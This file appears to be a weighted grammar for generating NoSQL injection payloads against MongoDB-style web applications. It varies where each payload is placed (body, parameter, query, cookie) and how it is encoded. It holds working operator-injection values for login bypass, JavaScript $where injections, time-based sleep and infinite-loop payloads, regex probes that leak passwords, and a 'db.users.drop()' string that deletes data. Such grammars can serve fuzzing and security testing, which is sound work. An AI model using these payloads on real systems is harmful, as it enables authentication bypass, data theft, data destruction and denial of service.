# NoSQL injection (MongoDB and friends): operator injection in JSON bodies and
# in bracketed form/query names, server-side JavaScript, string breakouts.

technique = [3] "js_injection" | [3] "string_breakout" | [2] "where_clause" | [1] "regex_probe" | [1] "blind_time" ;
place = [5] "body" | [4] "param" | [3] "query" | [1] "cookie" ;
target = [4] "text" | [3] "id" | [1] "any" ;
encode = [7] "none" | [3] "raw" | [2] "pct" | [1] "mixed" | [1] "unicode" ;
param = "username" | "user" | "password" | "q" | "filter" | "id" | "email" | "where" | "query" ;
header = "X-Filter" | "User-Agent" ;
cookie = "session" | "filter" ;

# Structural forms, used by the generator for JSON bodies and form names.
json_value = "{\"$ne\": null}" | "{\"$ne\": \"\"}" | "{\"$gt\": \"\"}" | "{\"$regex\": \".*\"}"
	| "{\"$regex\": \"^" @alnum(1,2) "\"}" | "{\"$exists\": true}" | "{\"$nin\": [\"" @word "\"]}"
	| "{\"$where\": \"sleep(" @int(100,5000) ")\"}" | "{\"$in\": [\"admin\", \"root\", \"" @word "\"]}"
	| "{\"$gt\": -1}" | "{\"$ne\": 1}" | "{\"$expr\": {\"$gt\": [1, 0]}}" | "{\"$where\": \"this.password.length > 0\"}"
	| "{\"$or\": [{}, {\"a\": \"a\"}]}" | "{\"$lookup\": {\"from\": \"users\"}}" ;
op = "$ne" | "$gt" | "$regex" | "$exists" | "$nin" | "$where" | "$lt" | "$gte" | "$in][" ;
op_value = "" | "null" | "1" | ".*" | "^a" | "true" | "x" | "sleep(5000)" | "0" ;

js_injection = "'; return true; var x='" | "\"; return true; var x=\"" | "1; return true" | "'; while(true){}; '"
	| "0;var date=new Date(); do{curDate = new Date();}while(curDate-date<" @int(1000,9000) ")"
	| "'; return this.password.match(/" @alnum(1,2) ".*/) ; var x='" | "';db.users.drop();'" ;
string_breakout = "' || '1'=='1" | "\" || \"1\"==\"1" | "' || 1==1//" | "admin' || 'a'=='a"
	| "'&& this.password.match(/.*/)//+%00" | "true, $where: '1 == 1'" | ", $or: [ {}, { 'a':'a" | "' } ], $comment:'" @word "'" ;
where_clause = "this.role == 'admin'" | "function() { return true; }" | "sleep(" @int(100,5000) ")" | "1 == 1"
	| "Object.keys(this)[0].match('^.{" @int(1,9) "}$')" | "this.password.length < " @int(5,30) ;
regex_probe = "^" @alnum(1,3) ".*" | ".*" | "^(?=a)" @word | "a.*b.*c.*" | "^.{" @int(1,30) "}$" ;
blind_time = "';sleep(" @int(1000,9000) ");'" | "1';sleep(" @int(1000,9000) ");var x='1" | "\";sleep(" @int(1000,9000) ");\"" ;
